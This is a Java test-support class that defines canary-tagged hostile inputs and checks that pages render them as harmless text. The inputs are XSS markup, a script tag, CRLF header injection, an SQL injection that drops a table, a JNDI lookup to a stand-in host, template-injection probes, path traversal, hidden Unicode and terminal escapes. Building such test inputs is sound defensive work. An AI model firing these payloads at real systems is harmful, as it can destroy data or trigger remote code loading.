package org.wholepicture.platform.testsupport;

import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;

/**
 * Texts that nobody honest sends. Each holds the {@link #CANARY}, so that one look tells whether an
 * answer, a page or a log line repeats it.
 */
public final class HostileText {

    /** A word that stands nowhere else: where it comes back, something was repeated. */
    public static final String CANARY = "Zebedee";

    /** Opens an element: no page has one of this name. */
    public static final String MARKUP = "<zebedee-x onload=alert(1)>" + CANARY + "</zebedee-x>";

    /** A header of its own, where line breaks reach one. */
    public static final String HEADER = CANARY + "\r\nZebedee-Injected: 1\r\n\r\n<zebedee-x>";

    /** Turns the words after it round, and has something between them that is not seen. */
    public static final String UNSEEN = "\u202e" + CANARY + "\u2066\u200b\ufeffx";

    /** Colours a terminal and clears its line. */
    public static final String TERMINAL = "\u001b[31m" + CANARY + "\u001b[2K\u0008\u009b0m";

    /** What every text can hold in JSON and in a form; a contract may still refuse them. */
    public static final List<String> TEXTS =
            List.of(
                    MARKUP,
                    "\"'><script>" + CANARY + "()</script>",
                    HEADER,
                    UNSEEN,
                    TERMINAL,
                    CANARY + "'; DROP TABLE audit_entry; --",
                    "${jndi:ldap://" + CANARY + ".example/x}{7*7}#{7*7}",
                    "../../" + CANARY + "%2e%2e%2f%00",
                    CANARY + "\uffff\ufdd0\u2028\ud83d\ude00",
                    " ");

    /** What no text may hold: the database keeps neither. */
    public static final List<String> NEVER =
            List.of(CANARY + "\u0000", "\ud800" + CANARY, CANARY + "\udc00");

    /** Days and moments that are none, or lie where nothing happens. */
    public static final List<String> TIMES =
            List.of(
                    "2026-02-30",
                    "2026-13-01",
                    "0000-01-01",
                    "9999-12-31",
                    "+999999999-12-31",
                    "20260105",
                    "2026-01-05T24:00:00Z",
                    "2026-01-05T10:00:00+19:00",
                    "+1000000000-12-31T23:59:59.999999999Z",
                    "\u0662\u0660\u0662\u0666-01-05");

    private static final Pattern MARKUP_LEFT = Pattern.compile("<zebedee|<script|\"on[a-z]+=");

    /** Directional marks, what has no width, and control characters but line ends and tabs. */
    private static final Pattern UNSEEN_LEFT =
            Pattern.compile(
                    "[\\u061C\\u180E\\u200B-\\u200F\\u202A-\\u202E\\u2060-\\u2069\\uFEFF"
                            + "\\x00-\\x08\\x0B\\x0C\\x0E-\\x1F\\x7F-\\x9F]");

    private HostileText() {}

    /**
     * Asserts that a page shows hostile texts as words: the canary is there, and nothing is markup,
     * turned round, hidden or for a terminal.
     *
     * @param times how often the canary is shown at least
     */
    public static void assertShownAsWords(String page, int times) {
        List<String> wrong = new ArrayList<>();
        if (page.split(CANARY, -1).length <= times) {
            wrong.add("shown less than " + times + " times");
        }
        for (Pattern pattern : List.of(MARKUP_LEFT, UNSEEN_LEFT)) {
            pattern.matcher(page)
                    .results()
                    .forEach(
                            found ->
                                    wrong.add(
                                            "%04x at %s"
                                                    .formatted(
                                                            (int) found.group().charAt(0),
                                                            page.substring(
                                                                    Math.max(0, found.start() - 60),
                                                                    found.end()))));
        }
        if (!wrong.isEmpty()) {
            throw new AssertionError(String.join("\n", wrong));
        }
    }
}
